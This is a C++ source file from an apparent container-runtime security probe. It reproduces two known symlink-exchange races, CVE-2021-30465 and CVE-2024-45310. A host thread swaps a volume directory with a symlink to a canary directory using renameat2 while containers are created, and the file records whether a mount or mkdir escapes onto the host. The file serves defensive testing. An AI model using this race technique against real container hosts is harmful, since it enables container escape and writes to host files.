// Classes 5 (CVE-2021-30465) and 11 (CVE-2024-45310): a name in a shared volume keeps being
// exchanged between a directory and a symlink to a host canary dir while the runtime creates a
// container that mounts a sub-path through that name.
//
// The racer: the attacker of both CVEs is a process in another container that shares the
// volume and loops renameat2(RENAME_EXCHANGE). busybox has no way to call renameat2, and a probe
// cannot rely on a helper binary being built for the image, so the probe runs the racer itself,
// as a thread on the host, on the very same inodes of the volume (the host dir that is
// bind-mounted into the container). The kernel sees the same exchanges a container process
// would make; only the caller differs, and the host thread exchanges much faster than a shell
// loop of `mv` could, which makes the race harder, not easier, to resist.
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include <atomic>
#include <thread>

#include "probe/cases_q_internal.h"
#include "probe/cases_q_util.h"

namespace rampart::probe::q {

namespace {

class Racer {
 public:
  Racer(std::string a, std::string b) : a_(std::move(a)), b_(std::move(b)) {
    thread_ = std::thread([this] {
      while (!stop_.load(std::memory_order_relaxed)) {
        if (::renameat2(AT_FDCWD, a_.c_str(), AT_FDCWD, b_.c_str(), RENAME_EXCHANGE) == 0) ++swaps_;
        else ++errors_;
      }
    });
  }
  ~Racer() { stop(); }
  void stop() {
    stop_ = true;
    if (thread_.joinable()) thread_.join();
  }
  [[nodiscard]] long swaps() const { return swaps_; }
  [[nodiscard]] long errors() const { return errors_; }

 private:
  std::string a_, b_;
  std::atomic<bool> stop_{false};
  std::atomic<long> swaps_{0}, errors_{0};
  std::thread thread_;
};

// vol/x is a real dir, vol/x-alt a symlink to the canary dir; the racer exchanges them.
std::string make_volume(Context& ctx, const std::string& name, const Canary& c) {
  std::string vol = ctx.workdir() + "/" + name;
  make_dir(vol + "/x");
  make_symlink(c.dir, vol + "/x-alt");
  return vol;
}

std::string stats(int attempts, int ran, int refused, std::chrono::steady_clock::duration took, const Racer& r) {
  auto s = std::chrono::duration_cast<std::chrono::milliseconds>(took).count() / 1000.0;
  char buf[64];
  snprintf(buf, sizeof buf, "%.1f", s);
  return std::to_string(attempts) + " creates in " + buf + " s (" + std::to_string(ran) + " set up, " +
         std::to_string(refused) + " refused) while " + std::to_string(r.swaps()) + " exchanges raced";
}

// Class 5: the mount destination is the racing name itself (/vol/x). If the runtime resolves
// it and then mounts by a path string, the bind of the payload can land on the host canary dir
// in the container's mount namespace; the canary dir is bound at /seen afterwards, so the
// container would see the payload there.
Outcome case_exchange_mount(Context& ctx) {
  Canary c = make_canary(ctx, "q-race5-canary");
  std::string payload = make_payload(ctx, "q-race5-payload");
  std::string vol = make_volume(ctx, "q-race5-vol", c);
  Bundle b = ctx.make_bundle("q-race5");
  make_dir(b.rootfs + "/vol");
  make_dir(b.rootfs + "/seen");
  b.config["mounts"].push_back(bind_mount(vol, "/vol"));
  b.config["mounts"].push_back(bind_mount(payload, "/vol/x", true));
  b.config["mounts"].push_back(bind_mount(c.dir, "/seen", true));
  set_sh(b, "ls -a /seen /seen/sub; cat /seen/CANARY; echo; echo END");
  b.write();
  const std::string id = "q-race5";
  ctx.track(id);
  int attempts = 0, ran = 0, refused = 0;
  std::string last_err;
  auto t0 = std::chrono::steady_clock::now();
  Racer racer(vol + "/x", vol + "/x-alt");
  while (attempts < ctx.race_attempts() && std::chrono::steady_clock::now() - t0 < ctx.race_budget()) {
    ++attempts;
    auto r = ctx.runtime_cmd({"run", "--bundle", b.dir, id});
    if (r.exit_code != 0) {
      last_err = r.err;
      ctx.runtime_cmd({"delete", "-f", id});
    }
    if (auto ch = c.changed(); !ch.empty()) {
      racer.stop();
      return escaped("attempt " + std::to_string(attempts) + ": " + ch);
    }
    if (r.exit_code == 0 && r.out.find("END") != std::string::npos) {
      ++ran;
      if (r.out.find("PAYLOAD") != std::string::npos)
        return escaped("attempt " + std::to_string(attempts) + ": the bind meant for /vol/x landed on the host canary dir " +
                       c.dir + " (the container sees the payload through /seen)");
      if (r.out.find(c.tok) == std::string::npos || r.out.find("SUBCANARY") == std::string::npos)
        return escaped("attempt " + std::to_string(attempts) + ": a mount covers the host canary dir " + c.dir);
    } else {
      ++refused;
    }
  }
  racer.stop();
  auto took = std::chrono::steady_clock::now() - t0;
  if (auto ch = c.changed(); !ch.empty()) return escaped(ch);
  if (racer.swaps() == 0) return broken("the racer could not exchange the names in the volume");
  if (ran == 0)
    return broken("no create succeeded: " + stats(attempts, ran, refused, took, racer) + "; last error: " +
                  squash(first_line(last_err), 200));
  return resisted(stats(attempts, ran, refused, took, racer) + "; no mount landed outside the root" +
                  (last_err.empty() ? "" : "; last refusal: " + squash(first_line(last_err), 120)));
}

// Class 11: the destination is a sub-path below the racing name (/vol/x/a/b), which does not
// exist yet: the runtime must create a/b, and must never create them through the symlink on the
// host. create + delete only: the judge is the host canary dir, which must stay as it was.
Outcome case_exchange_mkdir(Context& ctx) {
  Canary c = make_canary(ctx, "q-race11-canary");
  std::string vol = make_volume(ctx, "q-race11-vol", c);
  Bundle b = ctx.make_bundle("q-race11");
  make_dir(b.rootfs + "/vol");
  b.config["mounts"].push_back(bind_mount(vol, "/vol"));
  b.config["mounts"].push_back(tmpfs_mount("/vol/x/a/b"));
  b.config["mounts"].push_back(tmpfs_mount("/vol/x/f/g"));
  b.write();
  const std::string id = "q-race11";
  ctx.track(id);
  int attempts = 0, ran = 0, refused = 0;
  std::string last_err;
  auto t0 = std::chrono::steady_clock::now();
  Racer racer(vol + "/x", vol + "/x-alt");
  while (attempts < ctx.race_attempts() && std::chrono::steady_clock::now() - t0 < ctx.race_budget()) {
    ++attempts;
    auto r = ctx.runtime_cmd({"create", "--bundle", b.dir, id});
    (r.exit_code == 0 ? ran : refused)++;
    if (r.exit_code != 0) last_err = r.err;
    ctx.runtime_cmd({"delete", "-f", id});
    if (auto ch = c.changed(); !ch.empty()) {
      racer.stop();
      return escaped("attempt " + std::to_string(attempts) + ": the runtime created on the host: " + ch);
    }
  }
  racer.stop();
  auto took = std::chrono::steady_clock::now() - t0;
  if (auto ch = c.changed(); !ch.empty()) return escaped(ch);
  if (racer.swaps() == 0) return broken("the racer could not exchange the names in the volume");
  if (ran == 0)
    return broken("no create succeeded: " + stats(attempts, ran, refused, took, racer) + "; last error: " +
                  squash(first_line(last_err), 200));
  return resisted(stats(attempts, ran, refused, took, racer) + "; nothing was created on the host" +
                  (last_err.empty() ? "" : "; last refusal: " + squash(first_line(last_err), 120)));
}

}  // namespace

void add_race_cases(std::vector<Case>& out) {
  out.push_back({"volume-exchange-race-mount", 5, {"CVE-2021-30465"},
                 "a volume name is exchanged (renameat2 RENAME_EXCHANGE) between a dir and a symlink to a host "
                 "canary dir while containers that bind onto that name are created, repeatedly",
                 false, case_exchange_mount});
  out.push_back({"volume-exchange-race-mkdir", 11, {"CVE-2024-45310"},
                 "a volume name is exchanged between a dir and a symlink to a host canary dir while containers "
                 "whose mount destinations lie below that name (and must be created) are created, repeatedly",
                 false, case_exchange_mkdir});
}

}  // namespace rampart::probe::q
